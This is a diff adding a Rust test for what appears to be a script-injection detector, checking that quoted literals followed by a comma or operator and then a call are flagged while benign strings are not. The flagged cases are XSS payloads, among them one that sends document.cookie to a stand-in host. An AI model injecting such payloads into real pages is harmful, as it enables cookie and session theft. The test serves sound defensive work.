@@ -1048,6 +1048,33 @@ fn a_number_then_an_operator_hides_no_call() {
 }
 
 #[test]
+fn a_string_literal_then_an_operator_hides_no_call() {
+    // reflected unquoted into code (`var a = …;`, `f(…)`): the literal is an operand and
+    // the call after the comma or operator runs
+    judge(
+        &[
+            "'',alert(1)",
+            "\"\",alert(1)",
+            "'',fetch('//e.example/'+document.cookie),'",
+            "'a'-alert(1)-'",
+            "\"x\" || top.alert(1)",
+            "'',\"\",alert(1)",
+            "'it\\'s',alert(1)",
+            "''),alert(1)//",
+        ],
+        &[
+            "'a', 'b', 'c'",
+            "\"Smith, John\",\"alert(1)\"",
+            "\"Hello\", alert me",
+            "'quoted' - confirm(your seat) soon",
+            "\"title\" - print(x)",
+            "\"a\"; b()",
+            "'open\nquote',alert(1)",
+        ],
+    );
+}
+
+#[test]
 fn a_closed_literal_called_or_indexed_runs_its_arguments() {
     judge(
         &[
